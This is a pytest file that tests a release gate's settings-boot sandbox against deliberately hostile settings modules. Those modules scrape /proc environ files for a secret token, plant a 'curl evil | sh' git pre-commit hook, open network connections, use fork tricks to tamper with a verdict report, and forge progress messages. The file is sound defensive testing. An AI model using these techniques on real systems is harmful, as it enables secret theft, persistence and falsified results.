"""Hostile settings modules against the boot's sandbox (plugins/settings/sandbox.py, boot_child.py).

Each module does one thing the application's code must not do to the gate and reports what it
managed through the exception it raises, so each test asserts the exact outcome: the gate's
environment out of reach, no write outside the scratch, no network, memory bounded, nothing forked
outliving the boot, one deadline that output does not extend. The fallback (no bubblewrap) keeps
the clean environment, the limits, the deadline and the group kill, and says why it is not isolated.
"""
from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from typing import Iterator

import pytest

from releasegate.settings import boot, sandbox

ROOT = Path(__file__).resolve().parents[1]


def hostile(body: str, *after: str) -> str:
    """A settings module whose class `Hostile` runs `body` (which raises SystemExit with what it did),
    then harmless classes that must still boot."""
    return "import os, sys, time, socket\nclass Hostile:\n    def __init__(self):\n" + textwrap.indent(
        textwrap.dedent(body), "        ") + "".join(
        f"\nclass {name}:\n    def __init__(self):\n        pass\n" for name in after)


def run(source: str, classes: tuple[str, ...] = ("Hostile",), timeout: float = 2) -> dict[str, boot.Outcome]:
    result = boot.run([boot.BootJob("j", source, "settings.py", {"APP_MODE": "x"}, classes)], timeout=timeout)["j"]
    return {o.name: o for o in result.outcomes}


@pytest.fixture(params=["bwrap", "fallback"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Each test in the sandbox and in the fallback (bubblewrap turned off): fresh boot interpreters."""
    boot.close_all()
    monkeypatch.setattr(sandbox, "ENABLED", request.param == "bwrap")
    if request.param == "bwrap" and sandbox.isolation(sys.executable) is not None:
        pytest.skip(f"no sandbox here: {sandbox.isolation(sys.executable)}")
    yield request.param
    boot.close_all()


READ_ENVIRON = """
seen = []
for pid in [str(os.getppid())] + os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            seen.append(f.read())
    except OSError:
        pass
raise SystemExit("canary seen" if any(b"canary-5f3a" in s for s in seen) else "canary not seen")
"""
GATE = """
import json
from releasegate.settings import boot, sandbox
sandbox.ENABLED = {enabled}
result = boot.run([boot.BootJob("j", {source!r}, "settings.py", {{}}, ("Hostile",))])["j"]
print(json.dumps([result.outcomes[0].exception, boot.isolation()]))
"""


@pytest.mark.parametrize(("enabled", "expected"), [(True, "SystemExit: canary not seen"),
                                                   (False, "SystemExit: canary not seen")])
def test_the_gates_environment_is_out_of_reach(enabled: bool, expected: str) -> None:
    """A gate with a secret in its environment: in the sandbox no /proc entry shows it; without
    the sandbox neither (sandbox.shield: the gate non-dumpable, the boot without capabilities);
    the other processes of the gate's user stay in reach there (the "not isolated" warning)."""
    if enabled and sandbox.isolation(sys.executable) is not None:
        pytest.skip("no sandbox here")
    done = subprocess.run([sys.executable, "-c", GATE.format(enabled=enabled, source=hostile(READ_ENVIRON))],
                          cwd=ROOT, env={**os.environ, "RELEASEGATE_TOKEN": "canary-5f3a"},
                          capture_output=True, text=True, timeout=120)
    exception, isolation = __import__("json").loads(done.stdout)
    assert exception == expected
    assert isolation == (None if enabled else "the sandbox is turned off")


SHIELDED = """
import os, subprocess, sys
sys.path.insert(0, {root!r})
from releasegate.settings import sandbox
guard = sandbox.shield() if {shield} else None
done = subprocess.run([sys.executable, "-I", "-c", {reader!r}], env={{}}, preexec_fn=guard, capture_output=True,
                      text=True)
sandbox.unshield()
print(done.stdout.strip() or done.stderr.strip())
"""
READER = ("import os\nseen = []\nfor pid in [str(os.getppid())] + os.listdir('/proc'):\n    try:\n"
          "        seen.append(open(f'/proc/{pid}/environ', 'rb').read())\n    except OSError:\n        pass\n"
          "print('canary seen' if any(b'canary-5f3a' in s for s in seen) else 'canary not seen')")


@pytest.mark.parametrize("user", ["root", "nobody"])
@pytest.mark.parametrize(("shield", "expected"), [(False, "canary seen"), (True, "canary not seen")])
def test_the_shield_keeps_the_gates_environment_from_an_unisolated_boot(
        user: str, shield: bool, expected: str) -> None:
    """Measured as the gate's user: root (the Dockerfile's, this machine's) and an unprivileged one.
    As root, the gate's non-dumpable flag alone does not help (CAP_SYS_PTRACE passes it): the boot's
    empty capability set does; as another user the non-dumpable flag does. The unprivileged gate
    runs the system interpreter on a copy of sandbox.py (the suite's venv is not its to read)."""
    if os.geteuid() != 0 or not os.path.exists("/usr/bin/setpriv") or not sys.platform.startswith("linux"):
        pytest.skip("needs root and setpriv to run the gate as root and as nobody")
    folder = Path(tempfile.mkdtemp(prefix="releasegate-shield-"))  # pytest's own tmp is root's alone
    try:
        copy = folder / "releasegate" / "settings"
        copy.mkdir(parents=True)
        for init in (folder / "releasegate" / "__init__.py", copy / "__init__.py"):
            init.write_text("")
        (copy / "sandbox.py").write_text((ROOT / "plugins" / "settings" / "sandbox.py").read_text())
        (folder / "gate.py").write_text(SHIELDED.format(root=str(folder), shield=shield, reader=READER))
        for path in (folder, *folder.rglob("*")):
            path.chmod(0o755)
        as_user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if user == "nobody" else []
        done = subprocess.run([*as_user, "/usr/bin/python3", str(folder / "gate.py")], capture_output=True, text=True,
                              timeout=60, env={"PATH": os.environ.get("PATH", ""), "RELEASEGATE_TOKEN": "canary-5f3a"})
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    assert done.stdout.strip() == expected, done.stderr


def test_the_gate_is_dumpable_again_when_boots_end() -> None:
    """The gate is non-dumpable only while unisolated boot interpreters run (sandbox.unshield)."""
    prctl = sandbox._prctl()
    if prctl is None:
        pytest.skip("prctl is Linux's")
    before = prctl(sandbox._PR_GET_DUMPABLE)
    assert sandbox.shield() is not None
    assert prctl(sandbox._PR_GET_DUMPABLE) == 0
    sandbox.unshield()
    assert prctl(sandbox._PR_GET_DUMPABLE) == before == 1


def test_no_write_outside_the_scratch(tmp_path: Path, mode: str) -> None:
    """The deployment repository's .git/hooks and the boot's own folder are not writable; /tmp is
    private to the boot (bubblewrap). The fallback cannot stop the write: it is what the warning says."""
    hooks = tmp_path / "gitops" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    mine = Path("/tmp") / f"releasegate-hostile-{os.getpid()}-{time.monotonic_ns()}"
    body = f"""
        got = []
        for path in ({str(hooks / 'pre-commit')!r}, os.path.join(os.getcwd(), "x"), {str(mine)!r}):
            try:
                with open(path, "w") as f:
                    f.write("curl evil | sh")
                got.append("wrote")
            except OSError as exc:
                got.append(type(exc).__name__)
        raise SystemExit(" ".join(got))
    """
    got = run(hostile(body))
    if mode == "bwrap":
        assert got["Hostile"].exception == "SystemExit: FileNotFoundError OSError wrote"
        assert not (hooks / "pre-commit").exists() and not mine.exists()
    else:
        assert got["Hostile"].exception == "SystemExit: wrote wrote wrote"
        (hooks / "pre-commit").unlink()
        mine.unlink()


def test_no_network(mode: str) -> None:
    """A listening port of the gate's machine (the database's, here the test's) cannot be reached."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    body = f"""
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=1).close()
            raise SystemExit("connected")
        except OSError as exc:
            raise SystemExit("refused: " + type(exc).__name__)
    """
    try:
        got = run(hostile(body))
        if mode == "bwrap":
            assert got["Hostile"].exception == "SystemExit: refused: ConnectionRefusedError"
            with pytest.raises(BlockingIOError):
                listener.accept()
        else:
            assert got["Hostile"].exception == "SystemExit: connected"
    finally:
        listener.close()


def test_memory_past_the_limit_is_the_boots_limit(mode: str) -> None:
    """3 GiB asked of a 2 GiB limit: the item stops with the boot's own limit named (a "not
    checked", not the application's failure); the next class still boots; the gate is untouched."""
    got = run(hostile("data = bytearray(3 << 30)\nraise SystemExit('allocated')", "Next"), ("Hostile", "Next"))
    assert (got["Hostile"].limit, got["Hostile"].exception) == (
        "memory", f"reached the boot's memory limit ({sandbox.LIMITS['memory_mb']} MiB)")
    assert got["Next"].ok


def test_nothing_forked_outlives_the_boot(tmp_path: Path, mode: str) -> None:
    """A survivor (double fork, its own session) that sleeps, then rewrites the report: killed when
    the boot ends, so the report is never touched."""
    report = tmp_path / "report.json"
    report.write_text('{"verdict": "blocked"}')
    body = f"""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(1.5)
                try:
                    with open({str(report)!r}, "w") as f:
                        f.write('{{"verdict": "safe"}}')
                finally:
                    os._exit(0)
            os._exit(0)
        time.sleep(0.2)
        raise SystemExit("forked")
    """
    got = run(hostile(body, "Next"), ("Hostile", "Next"))
    assert got["Hostile"].exception == "SystemExit: forked" and got["Next"].ok
    time.sleep(3)
    assert report.read_text() == '{"verdict": "blocked"}'


def test_progress_does_not_extend_the_deadline(mode: str) -> None:
    """A module that keeps writing progress records to the boot's channel (a forged result for its
    own item, again and again) is stopped at once; the next class boots; the run ends within one
    deadline."""
    body = """
        line = b'{"i": 0, "result": {"name": "Hostile", "ok": true}}\\n'
        while True:
            for fd in os.listdir("/proc/self/fd"):
                try:
                    os.write(int(fd), line)
                except OSError:
                    pass
            time.sleep(0.1)
    """
    started = time.monotonic()
    got = run(hostile(body, "Next"), ("Hostile", "Next"), timeout=2)
    assert time.monotonic() - started < (2 + 2) * 3
    assert (got["Hostile"].ok, got["Hostile"].exception) == (False, "the settings code wrote to the boot's own channel")
    assert got["Next"].ok


def test_a_module_that_ignores_its_alarm_meets_the_one_deadline(mode: str) -> None:
    """Items that turn the per-item alarm off and hang: each killed, the job ended at its one
    deadline ((timeout + 2) x (items + 1)), whatever comes after reported as not reached."""
    body = "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)"
    source = hostile(body) + "\nclass Again(Hostile):\n    pass\nclass Third(Hostile):\n    pass\n"
    started = time.monotonic()
    got = run(source, ("Hostile", "Again", "Third"), timeout=1)
    elapsed = time.monotonic() - started
    assert elapsed < (1 + 2) * 4 + 2
    assert got["Hostile"].exception == "did not finish within 1s"
    assert not got["Third"].ok
